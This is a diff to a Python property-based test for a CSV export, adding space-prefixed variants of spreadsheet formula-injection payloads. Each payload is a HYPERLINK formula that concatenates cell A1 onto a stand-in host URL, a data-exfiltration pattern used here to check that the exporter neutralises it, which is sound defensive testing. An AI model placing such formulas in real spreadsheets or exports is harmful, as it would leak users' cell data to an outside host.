@@ -11,6 +11,7 @@ from counsel_desk.services.documents.csv_table import csv_table
 
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 FORMULAS = [f'{start}HYPERLINK("http://x/"&A1)' for start in STARTS]
+FORMULAS += [f" {formula}" for formula in FORMULAS]
 WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
 CELLS = st.one_of(st.sampled_from(FORMULAS), WORDS)
 ROWS = st.lists(st.lists(CELLS, min_size=3, max_size=3))
